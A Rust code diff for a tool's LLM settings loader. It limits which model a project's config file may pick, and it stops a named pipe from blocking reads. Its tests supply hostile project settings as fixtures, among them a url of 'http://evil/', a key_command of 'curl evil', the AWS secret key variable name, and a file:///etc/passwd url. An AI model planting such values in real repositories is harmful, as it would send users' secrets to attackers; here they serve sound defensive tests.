@@ -1,7 +1,7 @@
 //! Which model, where, and with which key: `[llm]` in the person's `config.toml`, and a little of it in the project's
 //! `backtrail.toml`.
 //!
-//! A project is somebody else's text. Its file may choose a model and lower the limits; where questions go, and which
+//! A project is somebody else's text. Its file may choose among the models that the person lists, and lower the limits; where questions go, and which
 //! key or command opens the door, only the person's own file says: else a hostile repository could send secrets elsewhere
 //! or run commands. What a project's file says beyond that is not followed, and told.
 
@@ -185,6 +185,7 @@ pub fn load_from(user: Option<&Path>, project: Option<&Path>) -> Loaded {
 struct Section {
     provider: Option<Provider>,
     model: Option<String>,
+    models: Vec<String>,
     url: Option<String>,
     key_env: Option<String>,
     key_command: Option<String>,
@@ -258,7 +259,21 @@ fn both(
         }
         return Err(not_configured());
     };
-    let model = theirs.model.filter(|_| same_provider).or(mine.model);
+    if !theirs.models.is_empty() {
+        warnings.push(format!(
+            "the project's {PROJECT_FILE} names [llm] models: not followed, which models a project may choose from is for {name} to say"
+        ));
+    }
+    // A model's name can decide who gets the question: one service passes some on to others.
+    let listed = |model: &String| mine.model.as_ref() == Some(model) || mine.models.contains(model);
+    let wanted = theirs.model.filter(|_| same_provider);
+    if let Some(model) = wanted.as_ref().filter(|m| !listed(m)) {
+        warnings.push(format!(
+            "the project's {PROJECT_FILE} asks for the model {:?}: not followed, a model can send questions elsewhere; if you want it, add it to models = [...] in [llm] of {name}",
+            neutral(model.as_bytes())
+        ));
+    }
+    let model = wanted.filter(listed).or(mine.model.clone());
     let Some(model) = model else {
         return Err(not_configured());
     };
@@ -368,6 +383,15 @@ fn section(file: &Path, warnings: &mut Vec<String>, name: &str) -> Result<Sectio
                 })?);
             }
             "model" => out.model = text()?,
+            "models" => {
+                let names = value.as_array().map(|all| {
+                    let names = all.iter().map(|v| v.as_str().map(|s| s.trim().to_owned()));
+                    names.collect::<Option<Vec<_>>>()
+                });
+                out.models = names.flatten().ok_or_else(|| {
+                    "[llm] models must be a list of names in quotes: [\"a\", \"b\"]".to_owned()
+                })?;
+            }
             "url" => out.url = text()?,
             "key_env" => out.key_env = text()?,
             "key_command" => out.key_command = text()?,
@@ -385,12 +409,17 @@ fn section(file: &Path, warnings: &mut Vec<String>, name: &str) -> Result<Sectio
 
 fn read(file: &Path) -> Result<Option<String>, String> {
     use std::io::Read as _;
-    let opened = match std::fs::File::open(file) {
+    use std::os::unix::fs::OpenOptionsExt as _;
+    // A pipe in a project would be waited for, already when it is opened.
+    let opened = std::fs::OpenOptions::new()
+        .read(true)
+        .custom_flags(rustix::fs::OFlags::NONBLOCK.bits().cast_signed())
+        .open(file);
+    let opened = match opened {
         Ok(file) => file,
         Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(None),
         Err(e) => return Err(format!("it cannot be read: {e}; check its permissions")),
     };
-    // A pipe or a device in a project would be waited for.
     if !opened.metadata().is_ok_and(|m| m.is_file()) {
         return Err("it is no ordinary file".to_owned());
     }
@@ -441,8 +470,7 @@ mod tests {
 
     #[test]
     fn a_project_may_choose_a_model_and_lower_limits_but_not_where_it_goes() {
-        let user =
-            "[llm]\nprovider = \"openai\"\nmodel = \"m\"\nmax_tokens = 1000\nkey_env = \"MINE\"\n";
+        let user = "[llm]\nprovider = \"openai\"\nmodel = \"m\"\nmodels = [\"other\"]\nmax_tokens = 1000\nkey_env = \"MINE\"\n";
         let got = loaded(
             user,
             "[llm]\nmodel = \"other\"\nmax_tokens = 500\ntoken_budget = 9\nurl = \"http://evil/\"\nkey_env = \"AWS_SECRET_ACCESS_KEY\"\nkey_command = \"curl evil\"\n",
@@ -471,6 +499,17 @@ mod tests {
             (Provider::OpenAi, "m", 1000)
         );
         assert_eq!(got.warnings.len(), 1, "{:?}", got.warnings);
+        // Nor by a model that the person does not know of.
+        let got = loaded(
+            "[llm]\nprovider = \"ollama\"\nmodel = \"m\"\n",
+            "[llm]\nmodel = \"gpt-oss:120b-cloud\"\nmodels = [\"gpt-oss:120b-cloud\"]\n",
+        );
+        assert_eq!(got.config.unwrap().model, "m");
+        assert!(
+            got.warnings.len() == 2 && got.warnings[1].contains("gpt-oss"),
+            "{:?}",
+            got.warnings
+        );
         // On a project's word alone nothing is sent.
         let got = loaded("", "[llm]\nprovider = \"openai\"\nmodel = \"x\"\n");
         assert!(matches!(got.config, Err(Error::NotConfigured { .. })));
@@ -484,6 +523,7 @@ mod tests {
             "llm = 3",
             "[llm]\nprovider = \"skynet\"",
             "[llm]\nmodel = 3",
+            "[llm]\nmodels = \"m\"",
             "[llm]\nprovider=\"openai\"\nmodel=\"m\"\nurl=\"file:///etc/passwd\"",
             "[llm]\nprovider=\"openai\"\nmodel=\"m\"\nurl=\"https://u:p@host/\"",
             "[llm]\nprovider=\"openai\"\nmodel=\"m\"\nkey_env=\"A\"\nkey_command=\"b\"",
@@ -495,6 +535,29 @@ mod tests {
         let got = loaded("[llm]\nprovider=\"openai\"\nmodel=\"m\"", "[llm");
         assert!(got.config.is_ok());
         assert!(got.warnings[0].contains(PROJECT_FILE));
+    }
+
+    #[test]
+    fn a_pipe_in_a_project_is_not_waited_for() {
+        let dir = tempfile::tempdir().unwrap();
+        let file = dir.path().join("config.toml");
+        std::fs::write(&file, "[llm]\nprovider=\"openai\"\nmodel=\"m\"").unwrap();
+        let pipe = dir.path().join(PROJECT_FILE);
+        nix::unistd::mkfifo(&pipe, nix::sys::stat::Mode::S_IRWXU).unwrap();
+        let (tell, told) = std::sync::mpsc::channel();
+        let root = dir.path().to_owned();
+        std::thread::spawn(move || {
+            let _ = tell.send(load_from(Some(&file), Some(&root)));
+        });
+        let got = told
+            .recv_timeout(Duration::from_secs(30))
+            .expect("it waits for the pipe");
+        assert!(got.config.is_ok());
+        assert!(
+            got.warnings[0].contains("no ordinary file"),
+            "{:?}",
+            got.warnings
+        );
     }
 
     #[test]
